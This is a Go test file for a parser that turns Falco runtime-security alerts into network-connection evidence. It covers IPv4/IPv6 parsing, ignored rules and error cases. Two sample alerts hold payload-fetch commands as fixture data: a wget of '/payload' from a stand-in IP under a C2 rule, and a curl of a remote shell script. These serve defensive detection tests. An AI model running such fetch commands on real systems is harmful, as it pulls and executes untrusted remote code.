package nodereport

import (
	"testing"

	"github.com/google/go-cmp/cmp"

	"buildguard.dev/buildguard/evidence"
)

// falcoAlertJSON is an alert of rule with output_fields fields (a JSON
// object's members) at 2026-11-26T10:15:03.412907311Z on worker-3.
func falcoAlertJSON(rule, fields string) string {
	return `{"hostname":"worker-3","output":"…","priority":"Warning","rule":"` + rule + `","source":"syscall",` +
		`"time":"2026-11-26T10:15:03.412907311Z","output_fields":{` + fields + `}}`
}

func TestParseFalco(t *testing.T) {
	const (
		c2      = "Outbound Connection to C2 Servers"
		when    = "2026-11-26T10:15:03.412907311Z"
		sidekik = `{"uuid":"3f0c1b8e-6a0d-4c52-9d3e-2b7f4c1a9e55","output":"…","priority":"Notice","rule":"Unexpected outbound connection destination",` +
			`"time":"2026-11-26T10:15:41.870102554Z","source":"syscall","tags":["network"],"hostname":"worker-7",` +
			`"output_fields":{"container.full_id":"afff522dd6ac92fbce24604c6bda59f0651020cd55713b3be465643ca17efd32","container.id":"afff522dd6ac",` +
			`"evt.type":"connect","fd.rip":"2001:db8::9","fd.rip.name":"mirror.example.net","fd.rport":443,"proc.name":"curl","proc.pid":48330,"proc.cmdline":"curl -fsSL https://mirror.example.net/t.sh"}}`
	)
	wget := falcoAlertJSON(c2, `"container.id":"afff522dd6ac","evt.time":1795688103412907311,"evt.type":"connect","fd.name":"10.244.3.17:43210->203.0.113.9:8080",`+
		`"fd.rport":8080,"fd.sip":"203.0.113.9","fd.sip.name":null,"fd.type":"ipv4","proc.cmdline":"wget -q http://203.0.113.9:8080/payload","proc.name":"wget","proc.pid":48213`)
	conn := func(body string, c evidence.Connection) evidence.Connection {
		c.Source = "falco"
		if c.EventID == "" {
			c.EventID = canonicalID("falco\n", []byte(body))
		}
		if c.Node == "" {
			c.Node = "worker-3"
		}
		if c.Time.IsZero() {
			c.Time = wantTime(when)
		}
		return c
	}
	one := func(body string, c evidence.Connection) Parsed {
		return Parsed{Report: evidence.Report{Node: "worker-3", Sensor: "falco", Connections: []evidence.Connection{conn(body, c)}}}
	}
	ignored := Parsed{Report: evidence.Report{Sensor: "falco"}, Ignored: 1}
	failed := func(reason string) Parsed {
		return Parsed{Report: evidence.Report{Sensor: "falco"}, Errors: []ItemError{{0, reason}}}
	}
	for _, tc := range []struct {
		name string
		body string
		node string
		want Parsed
	}{
		{name: "C2 rule with fd.sip and fd.rport", body: wget, want: one(wget, evidence.Connection{
			Process: "wget", PID: 48213, Cmdline: "wget -q http://203.0.113.9:8080/payload", ContainerID: "afff522dd6ac",
			DestIP: wantIP("203.0.113.9"), DestPort: 8080})},
		{name: "falcosidekick payload", body: sidekik, want: Parsed{Report: evidence.Report{Node: "worker-7", Sensor: "falco", Connections: []evidence.Connection{{
			Source: "falco", EventID: "3f0c1b8e-6a0d-4c52-9d3e-2b7f4c1a9e55", Node: "worker-7", Time: wantTime("2026-11-26T10:15:41.870102554Z"),
			Process: "curl", PID: 48330, Cmdline: "curl -fsSL https://mirror.example.net/t.sh", DestIP: wantIP("2001:db8::9"), DestPort: 443,
			DestName: "mirror.example.net", ContainerID: "afff522dd6ac92fbce24604c6bda59f0651020cd55713b3be465643ca17efd32"}}}}},
		{name: "fd.name only", body: falcoAlertJSON(c2, `"fd.name":"10.0.0.5:43210->203.0.113.9:8080","container.id":"host","proc.pid":"77"`),
			want: one(falcoAlertJSON(c2, `"fd.name":"10.0.0.5:43210->203.0.113.9:8080","container.id":"host","proc.pid":"77"`),
				evidence.Connection{PID: 77, DestIP: wantIP("203.0.113.9"), DestPort: 8080})},
		{name: "fd.name bracketed IPv6", body: falcoAlertJSON(c2, `"fd.name":"[fd00::5]:43210->[2001:db8::9]:443"`),
			want: one(falcoAlertJSON(c2, `"fd.name":"[fd00::5]:43210->[2001:db8::9]:443"`), evidence.Connection{DestIP: wantIP("2001:db8::9"), DestPort: 443})},
		{name: "fd.name unbracketed IPv6", body: falcoAlertJSON(c2, `"fd.name":"fd00::5:43210->2001:db8::9:443","fd.type":"ipv6"`),
			want: one(falcoAlertJSON(c2, `"fd.name":"fd00::5:43210->2001:db8::9:443","fd.type":"ipv6"`), evidence.Connection{DestIP: wantIP("2001:db8::9"), DestPort: 443})},
		{name: "IPv4-mapped fd.rip", body: falcoAlertJSON(c2, `"fd.rip":"::ffff:203.0.113.9","fd.rport":8080,"k8s.node.name":"worker-9"`),
			want: Parsed{Report: evidence.Report{Node: "worker-9", Sensor: "falco", Connections: []evidence.Connection{conn(falcoAlertJSON(c2, `"fd.rip":"::ffff:203.0.113.9","fd.rport":8080,"k8s.node.name":"worker-9"`),
				evidence.Connection{Node: "worker-9", DestIP: wantIP("203.0.113.9"), DestPort: 8080})}}}},
		{name: "no time: evt.time", body: `{"rule":"r","output_fields":{"evt.time":1795688103412907311,"fd.sip":"203.0.113.9","fd.sport":"80"}}`, node: "worker-3",
			want: one(`{"rule":"r","output_fields":{"evt.time":1795688103412907311,"fd.sip":"203.0.113.9","fd.sport":"80"}}`, evidence.Connection{DestIP: wantIP("203.0.113.9"), DestPort: 80})},
		{name: "inbound accept", body: falcoAlertJSON("Inbound SSH Connection", `"evt.type":"accept","fd.name":"185.125.115.231:63352->10.0.3.3:22"`), want: ignored},
		{name: "file rule", body: falcoAlertJSON("Write below binary dir", `"fd.name":"/bin/foo","proc.name":"touch"`), want: ignored},
		{name: "build tool exec", body: falcoAlertJSON("Launch Image Build Tool", `"proc.name":"docker","proc.cmdline":"docker build ."`), want: ignored},
		{name: "unix socket", body: falcoAlertJSON("r", `"fd.type":"unix","fd.name":"ffff9a->ffff9b /run/docker.sock"`), want: ignored},
		{name: "plugin source", body: `{"rule":"Disallowed K8s User","source":"k8s_audit","time":"2026-11-26T10:00:00Z","output_fields":{"fd.sip":"203.0.113.9","fd.sport":1}}`, want: ignored},
		{name: "invalid fd.sip", body: falcoAlertJSON(c2, `"fd.sip":"203.0.113.900","fd.rport":8080`),
			want: failed(`output_fields: fd.sip: "203.0.113.900" is not an IP address`)},
		{name: "broken fd.name of an IP socket", body: falcoAlertJSON(c2, `"fd.type":"ipv4","fd.name":"10.0.0.5:1->nowhere"`),
			want: failed(`output_fields: fd.name: "10.0.0.5:1->nowhere" has no IP address and port after "->"`)},
		{name: "no port", body: falcoAlertJSON(c2, `"fd.rip":"203.0.113.9"`),
			want: failed("output_fields: a destination IP without a port (fd.rport, fd.sport or fd.name)")},
		{name: "port out of range", body: falcoAlertJSON(c2, `"fd.rip":"203.0.113.9","fd.rport":70000`),
			want: failed("output_fields: destination port: 70000 is not a port (1..65535)")},
		{name: "huge pid", body: falcoAlertJSON(c2, `"fd.rip":"203.0.113.9","fd.rport":1,"proc.pid":1e30`),
			want: failed(`output_fields: proc.pid: want an integer, got "1e30"`)},
		{name: "field of the wrong type", body: falcoAlertJSON(c2, `"fd.rip":["203.0.113.9"]`),
			want: failed("output_fields: fd.rip: want a string or a number, got array")},
		{name: "output_fields not an object", body: `{"rule":"r","output_fields":"fd.sip=1.2.3.4"}`,
			want: failed("output_fields: want an object, got string")},
		{name: "no rule", body: `{"output":"x","output_fields":{}}`, want: failed("not a Falco alert: no rule")},
		{name: "no time at all", body: `{"rule":"r","hostname":"h","output_fields":{"fd.sip":"203.0.113.9","fd.sport":80}}`,
			want: failed("time: missing (and no output_fields evt.time)")},
		{name: "future", body: `{"rule":"r","hostname":"h","time":"2026-11-28T00:00:01Z","output_fields":{"fd.sip":"203.0.113.9","fd.sport":80}}`,
			want: failed("time: 2026-11-28T00:00:01Z is 36h0m1s in the future (more than 24h0m0s)")},
		{name: "no node", body: `{"rule":"r","time":"2026-11-26T10:15:03.412907311Z","output_fields":{"fd.sip":"203.0.113.9","fd.sport":80}}`,
			want: failed("no node: the event names none and the request gave none")},
		{name: "node from the request", body: `{"rule":"r","time":"2026-11-26T10:15:03.412907311Z","output_fields":{"fd.sip":"203.0.113.9","fd.sport":80}}`, node: "worker-3",
			want: one(`{"rule":"r","time":"2026-11-26T10:15:03.412907311Z","output_fields":{"fd.sip":"203.0.113.9","fd.sport":80}}`, evidence.Connection{DestIP: wantIP("203.0.113.9"), DestPort: 80})},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := ParseFalco([]byte(tc.body), tc.node, parseTestClock())
			checkParsed(t, "falco", []byte(tc.body), got, err)
			if err != nil {
				t.Fatalf("ParseFalco(%s) error: %v", tc.body, err)
			}
			if tc.node != "" && tc.want.Report.Node == "worker-3" {
				tc.want.Report.Node = tc.node
			}
			if diff := cmp.Diff(tc.want, got, exact); diff != "" {
				t.Errorf("ParseFalco(%s) (-want +got):\n%s", tc.body, diff)
			}
		})
	}
}

// TestParseFalcoBatch checks that items of one batch keep their own nodes
// and that a retried batch yields the same event IDs.
func TestParseFalcoBatch(t *testing.T) {
	a := `{"rule":"r","hostname":"worker-1","time":"2026-11-26T10:00:00Z","output_fields":{"fd.sip":"203.0.113.9","fd.sport":80}}`
	b := `{"rule":"r","hostname":"worker-2","time":"2026-11-26T10:00:00Z","output_fields":{"fd.sip":"203.0.113.9","fd.sport":80}}`
	got, err := ParseFalco([]byte("["+a+",\n"+b+"]"), "", parseTestClock())
	if err != nil {
		t.Fatal(err)
	}
	if got.Report.Node != "" || len(got.Report.Connections) != 2 || got.Report.Connections[0].Node != "worker-1" || got.Report.Connections[1].Node != "worker-2" {
		t.Errorf("ParseFalco(two nodes) = %+v, want Report.Node empty and each connection its own node", got)
	}
	retried, _ := ParseFalco([]byte(a+"\n"+b+"\n"), "", parseTestClock())
	if diff := cmp.Diff(got, retried, exact); diff != "" {
		t.Errorf("ParseFalco(same alerts as NDJSON) (-as an array +as NDJSON):\n%s", diff)
	}
}
